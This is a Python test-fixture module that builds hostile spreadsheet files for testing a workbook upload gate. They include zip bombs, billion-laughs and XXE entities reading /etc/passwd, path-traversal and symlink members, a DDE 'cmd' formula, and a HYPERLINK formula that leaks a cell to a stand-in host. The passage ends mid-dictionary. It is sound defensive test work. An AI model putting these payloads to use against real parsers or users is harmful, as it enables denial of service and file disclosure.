"""Builders of hostile (and a few tricky but acceptable) submitted workbooks.

Every builder takes a directory, writes one small file into it, and returns its path; nothing
else is written anywhere. ``CORPUS`` maps each file name to ``(builder, expected_code)``, where
``expected_code`` is the ``HostileFile.code`` that ``inspect_package`` must raise, or ``None``
for a file it must accept (macros and external links are reported, not rejected).
``EXTRA_CORPUS`` holds further edge cases of the safety gate (its ``oversized.xlsx`` is a sparse
file: 50 MiB long, a few KB on disk). The whole corpus builds in about a second; the zip bomb
(200 MiB of zeros, 0.2 MB on disk) takes most of it.

Importable by any test: ``from hostile_corpus import CORPUS, build_normal_workbook``.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

Builder = Callable[[Path], Path]

_MAIN_CT = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_MACRO_CT = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_SHEET = "xl/worksheets/sheet1.xml"
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_HEADER = [
    "Poste", "Catégorie", "Description", "Quantité", "Unité", "Facteur", "Unité facteur",
    "Source", "Incertitude", "Jour de tournage", "Lieu", "Commentaire",
]  # fmt: skip


# --- helpers ------------------------------------------------------------------------------------


def _workbook_bytes(cells: Mapping[str, object] | None = None, rows: int = 0) -> bytes:
    """An openpyxl workbook: ``rows`` budget lines under a header, plus ``cells``."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "Budget"
    if rows:
        ws.append(_HEADER)
        for i in range(rows):
            ws.append(
                [
                    f"P{i:04d}",
                    "Transport",
                    f"Camion régie, trajet {i}",
                    120 + i,
                    "km",
                    0.218,
                    "kgCO2e/km",
                    "ADEME Base Empreinte 23.4",
                    0.2,
                    1 + i % 40,
                    "Paris",
                    "",
                ]
            )
    for ref, value in (cells or {}).items():
        ws[ref] = value
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _rewrite(
    data: bytes,
    replace: Mapping[str, bytes] | None = None,
    extra: list[tuple[str, bytes]] | None = None,
    stored: bool = False,
) -> bytes:
    """Copy a zip, replacing some members' contents and appending ``extra`` members."""
    replace = replace or {}
    compression = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", compression) as dst,
        warnings.catch_warnings(),
    ):
        warnings.simplefilter("ignore", UserWarning)  # duplicate names are sometimes the point
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info)))
        for name, content in extra or []:
            dst.writestr(name, content)
    return out.getvalue()


def _patch(data: bytes, member: str, old: bytes, new: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        content = src.read(member)
    assert old in content, (member, old)
    return _rewrite(data, {member: content.replace(old, new, 1)})


def _add_part(data: bytes, name: str, content: bytes, content_type: str, rel_type: str) -> bytes:
    """Add a part related from the workbook, with its content type and relationship."""
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        types = src.read("[Content_Types].xml")
        rels = src.read("xl/_rels/workbook.xml.rels")
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
    rel = f'<Relationship Id="rIdX{len(rels)}" Type="{rel_type}" Target="/{name}"/>'
    return _rewrite(
        data,
        {
            "[Content_Types].xml": types.replace(b"</Types>", override.encode()),
            "xl/_rels/workbook.xml.rels": rels.replace(
                b"</Relationships>", rel.encode() + b"</Relationships>"
            ),
        },
        extra=[(name, content)],
    )


def _write(directory: Path, name: str, data: bytes) -> Path:
    path = directory / name
    path.write_bytes(data)
    return path


def _compound_file(streams: Mapping[str, bytes]) -> bytes:
    """A minimal OLE compound file (version 3, 512-byte sectors) with root-level streams.

    Streams are padded to 4096 bytes so they live in ordinary sectors: no mini stream needed.
    Layout: header, one FAT sector, the directory, then each stream's sectors in turn.
    """
    free, end, fat_sect, nostream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    names = sorted(streams, key=lambda n: (len(n), n.upper()))  # the order CFB compares names
    bodies = [streams[n].ljust(max(4096, -(-len(streams[n]) // 512) * 512), b"\0") for n in names]
    dir_sectors = -(-(len(names) + 1) * 128 // 512)
    fat = [fat_sect] + [i + 2 for i in range(dir_sectors - 1)] + [end]
    starts = []
    for body in bodies:
        first = len(fat)
        count = len(body) // 512
        starts.append(first)
        fat += [first + i + 1 for i in range(count - 1)] + [end]
    assert len(fat) <= 128, "one FAT sector only"
    fat += [free] * (128 - len(fat))

    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB3I", len(raw), kind, 1, nostream, right, child)
            + b"\0" * 16  # CLSID
            + b"\0" * 4  # state bits
            + b"\0" * 16  # creation and modification times
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, nostream, 1 if names else nostream, end, 0)
    for i, name in enumerate(names):
        right = i + 2 if i + 1 < len(names) else nostream
        directory += entry(name, 2, right, nostream, starts[i], len(streams[name]))
    empty = b"\0" * 64 + struct.pack("<HBB3I", 0, 0, 0, nostream, nostream, nostream)
    empty += b"\0" * 48
    directory += empty * (dir_sectors * 4 - len(names) - 1)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<108I", *([free] * 108))
    )
    assert len(header) == 512
    return header + struct.pack("<128I", *fat) + directory + b"".join(bodies)


# --- acceptable workbooks -----------------------------------------------------------------------


def build_normal_workbook(directory: Path, rows: int = 300, name: str = "normal.xlsx") -> Path:
    """A plain budget workbook written by openpyxl: ``rows`` lines of 12 columns."""
    return _write(directory, name, _workbook_bytes(rows=rows))


def build_macro_xlsm(directory: Path) -> Path:
    """A valid .xlsm with a VBA project part: accepted, the macro part is reported."""
    data = _workbook_bytes({"A1": "Poste", "B1": 12})
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        types = src.read("[Content_Types].xml")
    types = types.replace(_MAIN_CT, _MACRO_CT).replace(
        b"<Default Extension=",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b"<Default Extension=",
        1,
    )
    data = _rewrite(data, {"[Content_Types].xml": types})
    vba = _compound_file({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'})
    data = _patch(
        data,
        "xl/_rels/workbook.xml.rels",
        b"</Relationships>",
        b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        b'vbaProject" Target="vbaProject.bin"/></Relationships>',
    )
    return _write(directory, "macro.xlsm", _rewrite(data, extra=[("xl/vbaProject.bin", vba)]))


def build_dde_formula(directory: Path) -> Path:
    """A DDE formula and a reference to another workbook through an externalLink part."""
    from openpyxl import Workbook
    from openpyxl.packaging.relationship import Relationship
    from openpyxl.workbook.external_link.external import (
        ExternalBook,
        ExternalLink,
        ExternalSheetNames,
    )

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws["A1"] = "=cmd|' /C calc'!A0"
    ws["A2"] = "=[1]Sheet1!A1"
    link = ExternalLink(
        externalBook=ExternalBook(sheetNames=ExternalSheetNames(sheetName=["Sheet1"]), id="rId1")
    )
    link.file_link = Relationship(
        Id="rId1", type="externalLinkPath", Target="file:///C:/autre.xlsx", TargetMode="External"
    )
    wb._external_links.append(link)
    buf = io.BytesIO()
    wb.save(buf)
    return _write(directory, "dde_formula.xlsx", buf.getvalue())


# --- hostile files ------------------------------------------------------------------------------


def build_empty(directory: Path) -> Path:
    return _write(directory, "empty.xlsx", b"")


def build_csv_renamed(directory: Path) -> Path:
    text = "Poste;Quantité;Unité\nCamion régie;120;km\nGroupe électrogène;35;L\n"
    return _write(directory, "csv_renamed.xlsx", text.encode("utf-8"))


def build_truncated(directory: Path) -> Path:
    """A valid workbook cut in half: the central directory is gone."""
    data = _workbook_bytes(rows=50)
    return _write(directory, "truncated.xlsx", data[: len(data) // 2])


def build_zip_bomb(directory: Path, mib: int = 200) -> Path:
    """A valid workbook plus one member of ``mib`` MiB of zeros (about 0.2 MB compressed)."""
    path = directory / "zip_bomb.xlsx"
    path.write_bytes(_workbook_bytes({"A1": "Poste"}))
    zeros = bytes(2**20)
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as zf,
        zf.open("xl/worksheets/sheet2.xml", "w") as member,
    ):
        for _ in range(mib):
            member.write(zeros)
    return path


def _billion_laughs(root: str) -> bytes:
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    ]
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [{"".join(entities)}]>\n'.encode()


def build_entity_bomb(directory: Path) -> Path:
    """Billion laughs in xl/sharedStrings.xml."""
    sst = _billion_laughs("sst") + (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        b'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    )
    data = _add_part(
        _workbook_bytes({"A1": 1}),
        "xl/sharedStrings.xml",
        sst,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
        f"{_REL_NS}/sharedStrings",
    )
    return _write(directory, "entity_bomb.xlsx", data)


def build_external_entity(directory: Path) -> Path:
    """xl/workbook.xml declares ``SYSTEM "file:///etc/passwd"`` and uses it in a name."""
    data = _workbook_bytes({"A1": 1})
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        workbook = src.read("xl/workbook.xml")
    hostile = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        + workbook.replace(
            b"<definedNames/>",
            b'<definedNames><definedName name="x">&xxe;</definedName></definedNames>',
        )
    )
    return _write(directory, "external_entity.xlsx", _rewrite(data, {"xl/workbook.xml": hostile}))


def build_huge_dimension(directory: Path) -> Path:
    """Two cells, but the sheet declares A1:XFD1048576 as its used range."""
    data = _workbook_bytes({"A1": "Poste", "B2": 3})
    data = _patch(data, _SHEET, b'<dimension ref="A1:B2"/>', b'<dimension ref="A1:XFD1048576"/>')
    return _write(directory, "huge_dimension.xlsx", data)


def build_far_cell(directory: Path) -> Path:
    """Cells A1 and XFD1048576, with a ``<dimension>`` that lies ("A1"): only the cells tell.

    python-calamine and fastexcel abort the whole process (exit 134) on this file.
    """
    data = _workbook_bytes({"A1": 1, "XFD1048576": 2})
    data = _patch(data, _SHEET, b'<dimension ref="A1:XFD1048576"/>', b'<dimension ref="A1"/>')
    return _write(directory, "far_cell.xlsx", data)


def build_encrypted(directory: Path) -> Path:
    """A workbook encrypted with a password (ECMA-376 agile), as Excel does."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(_workbook_bytes({"A1": "secret"}))).encrypt("motdepasse", out)
    return _write(directory, "encrypted.xlsx", out.getvalue())


def build_legacy_xls(directory: Path) -> Path:
    """An OLE compound file with a 'Workbook' stream holding a BIFF8 BOF and EOF record."""
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x2775, 0x07CD, 0, 0x0206)
    eof = struct.pack("<HH", 0x000A, 0)
    return _write(directory, "legacy.xls", _compound_file({"Workbook": bof + eof}))


def build_ods_renamed(directory: Path) -> Path:
    """An OpenDocument spreadsheet (mimetype first, stored) renamed to .xlsx."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(
            zipfile.ZipInfo("mimetype"),
            b"application/vnd.oasis.opendocument.spreadsheet",
            compress_type=zipfile.ZIP_STORED,
        )
        zf.writestr(
            "META-INF/manifest.xml",
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:'
            '1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type='
            '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
            'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
        )
        zf.writestr(
            "content.xml",
            '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:'
            '1.0"><office:body><office:spreadsheet/></office:body></office:document-content>',
        )
    return _write(directory, "ods_renamed.xlsx", out.getvalue())


def build_path_traversal(directory: Path) -> Path:
    """A valid workbook with one more member named ``../../evil.txt``."""
    data = _rewrite(_workbook_bytes({"A1": 1}), extra=[("../../evil.txt", b"pwned\n")])
    return _write(directory, "path_traversal.xlsx", data)


CORPUS: dict[str, tuple[Builder, str | None]] = {
    "empty.xlsx": (build_empty, "EMPTY_FILE"),
    "csv_renamed.xlsx": (build_csv_renamed, "NOT_A_WORKBOOK"),
    "truncated.xlsx": (build_truncated, "CORRUPT_ZIP"),
    "zip_bomb.xlsx": (build_zip_bomb, "ZIP_BOMB"),
    "entity_bomb.xlsx": (build_entity_bomb, "XML_ENTITY"),
    "external_entity.xlsx": (build_external_entity, "XML_ENTITY"),
    "huge_dimension.xlsx": (build_huge_dimension, "SHEET_TOO_LARGE"),
    "far_cell.xlsx": (build_far_cell, "SHEET_TOO_LARGE"),
    "encrypted.xlsx": (build_encrypted, "ENCRYPTED"),
    "legacy.xls": (build_legacy_xls, "LEGACY_XLS"),
    "ods_renamed.xlsx": (build_ods_renamed, "ODS_FILE"),
    "path_traversal.xlsx": (build_path_traversal, "PATH_TRAVERSAL"),
    "macro.xlsm": (build_macro_xlsm, None),
    "dde_formula.xlsx": (build_dde_formula, None),
}


# --- further edge cases of the gate -------------------------------------------------------------


def _one(name: str, make: Callable[[], bytes]) -> Builder:
    def build(directory: Path) -> Path:
        return _write(directory, name, make())

    build.__name__ = f"build_{name.split('.')[0]}"
    return build


def _sheet_xml(body: str, dimension: str = "A1", prefix: str = "") -> bytes:
    p = f"{prefix}:" if prefix else ""
    ns = f"xmlns{':' + prefix if prefix else ''}"
    return (
        f'<{p}worksheet {ns}="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<{p}dimension ref="{dimension}"/><{p}sheetData>{body}</{p}sheetData></{p}worksheet>'
    ).encode()


def _with_sheet(sheet: bytes) -> bytes:
    return _rewrite(_workbook_bytes({"A1": 1}), {_SHEET: sheet})


def _docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/><Override '
            'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        zf.writestr(
            "_rels/.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{_REL_NS}/officeDocument" '
            'Target="word/document.xml"/></Relationships>',
        )
        zf.writestr("word/document.xml", "<document/>")
    return out.getvalue()


def _bad_crc() -> bytes:
    data = _rewrite(_workbook_bytes({"A1": 1}), stored=True)
    assert data.count(b"<sheets>") == 1
    return data.replace(b"<sheets>", b"<sheetz>")


def _duplicate_member() -> bytes:
    data = _workbook_bytes({"A1": 1})
    return _rewrite(data, extra=[("xl/workbook.xml", b"<workbook/>")])


def _too_many_members() -> bytes:
    return _rewrite(
        _workbook_bytes({"A1": 1}), extra=[(f"xl/media/p{i}.txt", b"") for i in range(2_001)]
    )


def _utf16_doctype() -> bytes:
    sst = (
        '\ufeff<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE sst [<!ENTITY a "b">]>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    ).encode("utf-16-le")
    return _rewrite(_workbook_bytes({"A1": 1}), {"xl/styles.xml": sst})


def _comment_then_doctype() -> bytes:
    styles = b'<?xml version="1.0"?><!-- <root> --><!DOCTYPE s [<!ENTITY a "b">]><styleSheet/>'
    return _rewrite(_workbook_bytes({"A1": 1}), {"xl/styles.xml": styles})


def _long_prolog() -> bytes:
    styles = b"<?xml version='1.0'?><!--" + b"x" * 70_000 + b"--><styleSheet/>"
    return _rewrite(_workbook_bytes({"A1": 1}), {"xl/styles.xml": styles})


def _utf7() -> bytes:
    styles = b'<?xml version="1.0" encoding="UTF-7"?><styleSheet/>'
    return _rewrite(_workbook_bytes({"A1": 1}), {"xl/styles.xml": styles})


def _two_workbooks() -> bytes:
    data = _workbook_bytes({"A1": 1})
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        workbook = src.read("xl/workbook.xml")
    data = _patch(data, "_rels/.rels", b'Target="xl/workbook.xml"', b'Target="xl/book2.xml"')
    return _rewrite(data, extra=[("xl/book2.xml", workbook)])


def _rel_traversal() -> bytes:
    data = _workbook_bytes({"A1": 1})
    return _patch(
        data,
        "xl/_rels/workbook.xml.rels",
        b'Target="/xl/worksheets/sheet1.xml"',
        b'Target="../../../etc/passwd"',
    )


def _missing_sheet() -> bytes:
    data = _workbook_bytes({"A1": 1})
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
            for info in src.infolist():
                if info.filename != _SHEET:
                    dst.writestr(info.filename, src.read(info))
    return out.getvalue()


def build_oversized(directory: Path) -> Path:
    """A sparse file one byte over the 50 MiB limit (a few bytes on disk)."""
    path = directory / "oversized.xlsx"
    with path.open("wb") as f:
        f.write(b"PK\x03\x04")
        f.truncate(50 * 2**20 + 1)
    return path


EXTRA_CORPUS: dict[str, tuple[Builder, str | None]] = {
    "oversized.xlsx": (build_oversized, "FILE_TOO_LARGE"),
    "docx_renamed.xlsx": (_one("docx_renamed.xlsx", _docx), "NOT_A_WORKBOOK"),
    "bad_crc.xlsx": (_one("bad_crc.xlsx", _bad_crc), "CORRUPT_ZIP"),
    "duplicate_member.xlsx": (_one("duplicate_member.xlsx", _duplicate_member), "CORRUPT_ZIP"),
    "too_many_members.xlsx": (_one("too_many_members.xlsx", _too_many_members), "ZIP_BOMB"),
    "absolute_path.xlsx": (
        _one("absolute_path.xlsx", lambda: _rewrite(_workbook_bytes(), extra=[("/tmp/x", b"")])),
        "PATH_TRAVERSAL",
    ),
    "backslash_path.xlsx": (
        _one(
            "backslash_path.xlsx",
            lambda: _rewrite(_workbook_bytes(), extra=[("..\\..\\evil.txt", b"")]),
        ),
        "PATH_TRAVERSAL",
    ),
    "drive_path.xlsx": (
        _one("drive_path.xlsx", lambda: _rewrite(_workbook_bytes(), extra=[("C:/x.txt", b"")])),
        "PATH_TRAVERSAL",
    ),
    "rel_traversal.xlsx": (_one("rel_traversal.xlsx", _rel_traversal), "PATH_TRAVERSAL"),
    "utf16_doctype.xlsx": (_one("utf16_doctype.xlsx", _utf16_doctype), "XML_ENTITY"),
    "comment_then_doctype.xlsx": (
        _one("comment_then_doctype.xlsx", _comment_then_doctype),
        "XML_ENTITY",
    ),
    "long_prolog.xlsx": (_one("long_prolog.xlsx", _long_prolog), "CORRUPT_WORKBOOK"),
    "utf7_part.xlsx": (_one("utf7_part.xlsx", _utf7), "CORRUPT_WORKBOOK"),
    "two_workbooks.xlsx": (_one("two_workbooks.xlsx", _two_workbooks), "CORRUPT_WORKBOOK"),
    "missing_sheet.xlsx": (_one("missing_sheet.xlsx", _missing_sheet), "CORRUPT_WORKBOOK"),
    "bad_cell_ref.xlsx": (
        _one("bad_cell_ref.xlsx", lambda: _with_sheet(_sheet_xml('<row r="1"><c r="1A"/></row>'))),
        "CORRUPT_WORKBOOK",
    ),
    "far_row.xlsx": (
        _one("far_row.xlsx", lambda: _with_sheet(_sheet_xml('<row r="1048576"/>'))),
        "SHEET_TOO_LARGE",
    ),
    "merge_bomb.xlsx": (
        _one(
            "merge_bomb.xlsx",
            lambda: _with_sheet(
                _sheet_xml('<row r="1"><c r="A1"/></row>').replace(
                    b"</sheetData>",
                    b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/>'
                    b"</mergeCells>",
                )
            ),
        ),
        "SHEET_TOO_LARGE",
    ),
    "implicit_columns.xlsx": (
        _one(
            "implicit_columns.xlsx",
            lambda: _with_sheet(_sheet_xml("<row>" + "<c/>" * 1_001 + "</row>")),
        ),
        "SHEET_TOO_LARGE",
    ),
    "prefixed_far_cell.xlsx": (
        _one(
            "prefixed_far_cell.xlsx",
            lambda: _with_sheet(
                _sheet_xml('<x:row r="3"><x:c r="ALM3"/><x:c r="A3"/></x:row>', prefix="x")
            ),
        ),
        "SHEET_TOO_LARGE",
    ),
    "too_many_cells.xlsx": (
        _one(
            "too_many_cells.xlsx",
            lambda: _with_sheet(_sheet_xml('<row r="4000"><c r="ZZ4000"/></row>')),
        ),
        "SHEET_TOO_LARGE",
    ),
}


def build_all(
    directory: Path, corpus: Mapping[str, tuple[Builder, str | None]] = CORPUS
) -> dict[str, Path]:
    """Build every file of ``corpus`` into ``directory``; file name -> path."""
    return {name: builder(directory) for name, (builder, _code) in corpus.items()}


# --- second round: Carbon'Clap workbooks a red team broke (issue 11) ------------------------------
#
# ``ROUND2`` maps a file name to ``(builder, verdict)``: the rejection code both ``process`` and
# ``validate`` must give, or "ok" / "errors". Each builder starts from the real template.

_GIB_TRICK_MIB = 1_100  # what the red team hid behind each lying member


def lying_deflate(data: bytes, extra_mib: int) -> bytes:
    """A raw deflate stream of ``data`` followed by ``extra_mib`` MiB of zeros, built from one
    repeated 1 MiB block (about 1 KB each): a 1.1 GB stream costs 1.1 MB to build and store."""
    head = zlib.compressobj(6, zlib.DEFLATED, -15)
    out = head.compress(data) + head.flush(zlib.Z_FULL_FLUSH)
    zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = zeros.compress(b"\0" * 2**20) + zeros.flush(zlib.Z_FULL_FLUSH)
    return out + block * extra_mib + zlib.compressobj(6, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)


def lying_zip(data: bytes, lies: Mapping[str, int], declare: Mapping[str, int] | None = None
              ) -> bytes:
    """The zip ``data`` rewritten by hand: each member of ``lies`` gets ``extra MiB`` of zeros
    after its real content in its deflate stream, its header keeping the real size and CRC;
    each member of ``declare`` declares that size instead of its own."""
    declare = declare or {}
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        members = [(i.filename, src.read(i), i.external_attr) for i in src.infolist()]
    out, central = io.BytesIO(), b""
    for name, content, attr in members:
        raw = name.encode()
        if name in lies:
            packed = lying_deflate(content, lies[name])
        else:
            deflater = zlib.compressobj(6, zlib.DEFLATED, -15)
            packed = deflater.compress(content) + deflater.flush()
        size, crc, offset = declare.get(name, len(content)), zlib.crc32(content), out.tell()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(packed),
                              size, len(raw), 0) + raw + packed)
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 0x0314, 20, 0, 8, 0, 0x21, crc,
                               len(packed), size, len(raw), 0, 0, 0, 0, attr, offset) + raw
    start = out.tell()
    out.write(central)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members),
                          len(central), start, 0))
    return out.getvalue()


def carbonclap_bytes(directory: Path, customise: Callable[[object], None] | None = None,
                     production: Mapping[str, object] | None = None) -> bytes:
    """A filled Carbon'Clap workbook (the template, four lines), as bytes."""
    from tests.wbhelpers import PRODUCTION, make_workbook

    path = directory / ".base.xlsx"
    make_workbook(path, production={**PRODUCTION, **(production or {})}, customise=customise)
    data = path.read_bytes()
    path.unlink()
    return data


def sheet_part(data: bytes, sheet: str) -> str:
    from carbonclap_xl.xlsx.package import sheet_parts

    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return sheet_parts(zf)[sheet]


def _edit_sheet(data: bytes, sheet: str, edit: Callable[[bytes], bytes]) -> bytes:
    part = sheet_part(data, sheet)
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        content = src.read(part)
    return _rewrite(data, {part: edit(content)})


def _row(xml: bytes, number: int) -> bytes:
    start = xml.index(b'<row r="%d"' % number)
    return xml[start : xml.index(b"</row>", start) + len(b"</row>")]


def _cc(name: str, make: Callable[[Path], bytes]) -> Builder:
    def build(directory: Path) -> Path:
        return _write(directory, name, make(directory))

    build.__name__ = f"build_{name.split('.')[0]}"
    return build


def _cells(**cells: object) -> Callable[[Path], bytes]:
    """Cells typed into the template, ``Sheet__A1=value``."""
    def customise(wb: object) -> None:
        for key, value in cells.items():
            sheet, ref = key.split("__")
            wb[sheet.replace("_", " ")][ref] = value  # type: ignore[index]

    return lambda directory: carbonclap_bytes(directory, customise)


def _lying(every_sheet: bool) -> Callable[[Path], bytes]:
    def make(directory: Path) -> bytes:
        data = carbonclap_bytes(directory)
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        targets = sheets if every_sheet else [sheet_part(data, "Lieux")]
        return lying_zip(data, dict.fromkeys(targets, _GIB_TRICK_MIB))
    return make


def _shorter(directory: Path) -> bytes:
    data = carbonclap_bytes(directory)
    part = sheet_part(data, "Lieux")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        size = zf.getinfo(part).file_size
    return lying_zip(data, {}, declare={part: size + 10_000})


def _merges(directory: Path) -> bytes:
    merges = b"".join(b'<mergeCell ref="A%d:B%d"/>' % (r, r) for r in range(5, 100_005))
    return _edit_sheet(carbonclap_bytes(directory), "Lieux", lambda xml: xml.replace(
        b"<dataValidations", b'<mergeCells count="100000">' + merges + b"</mergeCells>"
        b"<dataValidations", 1))


def _merge_outside(directory: Path) -> bytes:
    return _edit_sheet(carbonclap_bytes(directory), "Lieux", lambda xml: xml.replace(
        b"<dataValidations", b'<mergeCells count="1"><mergeCell ref="T10:U12"/></mergeCells>'
        b"<dataValidations", 1))


def _duplicate_rows(directory: Path) -> bytes:
    import random

    rnd = random.Random(11)  # varied values: the compression ratio stays ordinary
    rows = b"".join(b'<row r="7"><c r="B7"><v>%d</v></c></row>' % rnd.randrange(10**9)
                    for _ in range(250_000))
    return _edit_sheet(carbonclap_bytes(directory), "Lieux",
                       lambda xml: xml.replace(b"</sheetData>", rows + b"</sheetData>", 1))


def _rows_out_of_order(directory: Path) -> bytes:
    def edit(xml: bytes) -> bytes:
        five, six = _row(xml, 5), _row(xml, 6)
        return xml.replace(five + six, six + five, 1)
    return _edit_sheet(carbonclap_bytes(directory), "Lieux", edit)


def _nested(sheet: str, formula: bool = False) -> Callable[[Path], bytes]:
    def make(directory: Path) -> bytes:
        cell = (b'<c r="Z40" t="inlineStr"><is>' + b"<r>" * 100_000 + b"<t>x</t>"
                + b"</r>" * 100_000 + b"</is></c>")
        if formula:
            cell += b'<c r="AA40"><f>1+1</f><v>2</v></c>'

        def edit(xml: bytes) -> bytes:
            return xml.replace(b"</sheetData>", b'<row r="40">' + cell + b"</row></sheetData>",
                               1)
        return _edit_sheet(carbonclap_bytes(directory), sheet, edit)
    return make


def _nan(directory: Path) -> bytes:
    def edit(xml: bytes) -> bytes:
        row = _row(xml, 5)
        start = row.index(b'<c r="B5"')
        end = row.index(b"</c>", start) + 4
        return xml.replace(row, row[:start] + b'<c r="B5" t="n"><v>NaN</v></c>' + row[end:], 1)
    return _edit_sheet(carbonclap_bytes(directory), "Lieux", edit)


def _symlink(directory: Path) -> bytes:
    data = carbonclap_bytes(directory)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        link = zipfile.ZipInfo("xl/media/lien.png")
        link.create_system = 3
        link.external_attr = (0o120777 << 16)  # a symbolic link, as `zip --symlinks` stores it
        dst.writestr(link, "/etc/passwd")
    return out.getvalue()


FORMULA_TITLE = '=HYPERLINK("http://exemple.invalid/?fuite="&A1;"Cliquez")'
LONG_ACTIVITY = "Électricité " + "x" * (32_767 - 12)  # Excel's longest cell text

ROUND2: dict[str, tuple[Builder, str]] = {
    "lying_sheet.xlsx": (_cc("lying_sheet.xlsx", _lying(False)), "ZIP_BOMB"),
    "lying_every_sheet.xlsx": (_cc("lying_every_sheet.xlsx", _lying(True)), "ZIP_BOMB"),
    "lying_shorter.xlsx": (_cc("lying_shorter.xlsx", _shorter), "CORRUPT_ZIP"),
    "formula_title.xlsx": (
        _cc("formula_title.xlsx", lambda d: carbonclap_bytes(d, production={
            "title": FORMULA_TITLE})), "ok"),
    "long_activity.xlsx": (
        _cc("long_activity.xlsx", _cells(Lieux__A7=LONG_ACTIVITY, Lieux__B7=3)), "errors"),
    "merges_100k.xlsx": (_cc("merges_100k.xlsx", _merges), "ok"),
    "merge_outside_table.xlsx": (_cc("merge_outside_table.xlsx", _merge_outside), "ok"),
    "dde_input.xlsx": (_cc("dde_input.xlsx", _cells(Lieux__B7="=cmd|' /C calc'!A0",
                                                    Lieux__A7="elec_fr")), "errors"),
    "webservice.xlsx": (
        _cc("webservice.xlsx", _cells(Lieux__B7='=WEBSERVICE("http://exemple.invalid/x")',
                                      Lieux__A7="elec_fr")), "errors"),
    "duplicate_rows.xlsx": (_cc("duplicate_rows.xlsx", _duplicate_rows), "SHEET_TOO_LARGE"),
